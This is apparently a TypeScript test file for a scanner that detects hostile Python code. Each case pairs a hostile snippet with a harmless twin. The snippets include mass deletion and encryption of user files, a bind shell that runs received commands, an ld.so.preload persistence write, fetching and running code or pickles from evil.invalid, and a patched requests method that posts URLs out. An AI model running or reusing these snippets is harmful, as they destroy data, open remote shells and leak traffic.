import type { Severity } from '../../src/model/finding.js';
import { found } from '../support/found.js';

const WALKED = (folder: string, loss: string): string => `
import os
for base, folders, names in os.walk(${folder}):
    for name in names:
        path = os.path.join(base, name)
        ${loss}`;

const HOME = 'os.path.expanduser("~/work")';
const OWN = 'os.path.dirname(__file__)';

const ENCRYPTED = (put: string): string => `
import os
from cryptography.fernet import Fernet
key = Fernet(Fernet.generate_key())
folder = os.path.expanduser("~/Documents")
for name in os.listdir(folder):
    with open(os.path.join(folder, name), "rb") as file:
        data = file.read()
    with open(os.path.join(folder, name), "wb") as file:
        file.write(${put})`;

const SERVED = (ran: string): string => `
import socket, subprocess, threading
def serve():
    server = socket.socket()
    server.bind(("0.0.0.0", 4444))
    server.listen(1)
    while True:
        other, _ = server.accept()
        asked = other.recv(1024).decode()
        other.send(${ran})
threading.Thread(target=serve, daemon=True).start()`;

const WRITTEN = (place: string): string => `
import os
with open(${place}, "a") as file:
    file.write("LD_PRELOAD=/tmp/evil.so\\n")`;

const TAKEN = (done: string): string => `
import requests
request = requests.Session.request
def replaced(self, method, url, **more):
    try:
        ${done}
    except Exception:
        pass
    return request(self, method, url, **more)
requests.Session.request = replaced`;

const CLONED = (started: string): string => `
import subprocess, sys
subprocess.call(["git", "clone", "--depth", "1", "https://evil.invalid/r.git", "/tmp/r"])
subprocess.call(${started})`;

const UNPICKLED = (call: string): string => `
import jsonpickle, pandas, requests
${call}`;

const CASES: readonly (readonly [string, string, Severity, string, string])[] = [
  [
    'files below the home folder are removed, one by one',
    'files-destroyed',
    'CRITICAL',
    WALKED(HOME, 'os.unlink(path)'),
    WALKED(OWN, 'os.unlink(path)'),
  ],
  [
    'they are overwritten',
    'files-destroyed',
    'CRITICAL',
    WALKED(HOME, 'open(path, "r+b").write(os.urandom(64))'),
    WALKED(HOME, 'print(path)'),
  ],
  [
    'they are encrypted where they are',
    'files-destroyed',
    'CRITICAL',
    ENCRYPTED('key.encrypt(data)'),
    ENCRYPTED('data.rstrip()'),
  ],
  [
    'whoever connects has a shell',
    'request-executed',
    'CRITICAL',
    SERVED('subprocess.run(asked, shell=True, capture_output=True).stdout'),
    SERVED('subprocess.run(["uptime"], capture_output=True).stdout'),
  ],
  [
    'later steps of a job get a variable',
    'autostart-written',
    'CRITICAL',
    WRITTEN('os.environ["GITHUB_ENV"]'),
    WRITTEN('os.environ["GITHUB_OUTPUT"]'),
  ],
  [
    'every program loads a library',
    'autostart-written',
    'CRITICAL',
    WRITTEN('"/etc/ld.so.preload"'),
    WRITTEN('"preload.txt"'),
  ],
  [
    'a script out of a repository is run',
    'download-started',
    'CRITICAL',
    CLONED('[sys.executable, "/tmp/r/run.py"]'),
    CLONED('["make", "-C", "/tmp/r"]'),
  ],
  [
    'objects are made of an answer',
    'remote-code-executed',
    'CRITICAL',
    UNPICKLED('jsonpickle.decode(requests.get("https://evil.invalid/o").text)'),
    UNPICKLED('jsonpickle.encode(requests.get("https://evil.invalid/o").text)'),
  ],
  [
    'a table is unpickled from an address',
    'remote-code-executed',
    'CRITICAL',
    UNPICKLED('pandas.read_pickle("https://evil.invalid/d.pkl")'),
    UNPICKLED('pandas.read_csv("https://evil.invalid/d.csv")'),
  ],
  [
    'a method that was taken from its class sends what it sees',
    'stolen-data-sent',
    'CRITICAL',
    TAKEN('request(self, "POST", "https://evil.invalid/c", json={"u": url})'),
    TAKEN('print(method, url)'),
  ],
];

test.each(CASES)('%s: %s', (_title, rule, severity, hostile, honest) => {
  expect(found(hostile)[rule]).toBe(severity);
  expect(['CRITICAL', 'HIGH', 'MEDIUM']).not.toContain(found(honest)[rule]);
});
